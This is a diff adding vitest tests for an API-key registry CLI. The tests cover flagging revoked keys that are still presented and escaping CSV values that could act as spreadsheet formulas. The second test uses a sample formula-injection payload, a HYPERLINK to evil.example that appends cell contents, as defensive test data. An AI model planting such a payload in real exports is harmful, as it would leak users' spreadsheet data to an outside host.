@@ -8,7 +8,8 @@ import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
 import type { RegistryRow } from "../../../core/operations/registry.ts";
 import type { RegistryDocument } from "../../../core/operations/registry-format.ts";
-import { STORES } from "../../harness/keys-service.ts";
+import { createKey, STORES } from "../../harness/keys-service.ts";
+import { waitFor } from "../../harness/wait.ts";
 import { BIDI_NAME, buildFixture, type Fixture, runCli } from "./registry-fixture.ts";
 
 const info = inject("controlPlane");
@@ -175,5 +176,54 @@ describe.each(STORES)("ayra-keys registry on %s", (store) => {
 
   it("never prints a key value", () => {
     expect(JSON.stringify(doc)).not.toMatch(/sk_(live|test)_[A-Za-z0-9]{40,}/);
+  });
+
+  it("flags a revoked key still presented; --revoked-in-use lists only such keys", async () => {
+    // Working keys cannot be presented revoked: 0 without a usage call.
+    expect(doc.data.every((r) => r.revoked_attempts === 0 && r.last_revoked_attempt_at === null)).toBe(true);
+    for (let i = 0; i < 3; i++)
+      expect((await f.ks.call("GET", "/v1/api_keys?limit=1", { key: f.revokedSecret })).status).toBe(401);
+    await waitFor("the attempts to be counted", async () => {
+      const usage = await f.ks.call("GET", `/v1/api_keys/${f.ids.revoked}/usage`, { key: f.ks.adminKey });
+      return (usage.body as unknown as { revoked_attempts: number }).revoked_attempts === 3;
+    });
+    const out = await runCli(f, ["registry", "--format", "json", "--revoked-in-use"], info.kubeconfigPath);
+    expect(out.code, out.stderr).toBe(0);
+    const flagged: RegistryDocument = JSON.parse(out.stdout);
+    expect(validate(flagged), JSON.stringify(validate.errors)).toBe(true);
+    expect(flagged.data.map((r) => [r.id, r.status, r.revoked_attempts])).toEqual([
+      [f.ids.revoked, "revoked", 3],
+    ]);
+    expect(Date.parse(flagged.data[0]?.last_revoked_attempt_at ?? "")).toBeGreaterThan(Date.now() - 120_000);
+    const table = await runCli(f, ["registry", "--format", "table", "--all"], info.kubeconfigPath);
+    const line = table.stdout.split("\n").find((l) => l.startsWith("Revoked "));
+    expect(line).toMatch(/ ! 3 \(last \d{4}-\d{2}-\d{2}\) /);
+    const csv = await runCli(f, ["registry", "--format", "csv", "--all"], info.kubeconfigPath);
+    const records: Record<string, string>[] = parse(csv.stdout, { columns: true });
+    expect(records.find((r) => r.id === f.ids.revoked)?.revoked_attempts).toBe("3");
+    expect(records.find((r) => r.id === f.ids.web)?.revoked_attempts).toBe("0");
+  });
+
+  it("writes a name that would be a spreadsheet formula as text", async () => {
+    const evil = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
+    const key = await createKey(f.ks, {
+      name: evil,
+      environment: "live",
+      scopes: ["agents:read"],
+      metadata: { owner: "@ops@example.com", purpose: "+1" },
+    });
+    const out = await runCli(f, ["registry", "--format", "csv"], info.kubeconfigPath);
+    const records: Record<string, string>[] = parse(out.stdout, { columns: true });
+    expect(records.find((r) => r.id === key.id)).toMatchObject({
+      name: `'${evil}`,
+      owner: "'@ops@example.com",
+      purpose: "'+1",
+    });
+    for (const record of records)
+      for (const value of Object.values(record)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
+    // JSON keeps the exact value.
+    const json = await runCli(f, ["registry", "--format", "json"], info.kubeconfigPath);
+    const row = (JSON.parse(json.stdout) as RegistryDocument).data.find((r) => r.id === key.id);
+    expect(row).toMatchObject({ name: evil, owner: "@ops@example.com", purpose: "+1" });
   });
 });
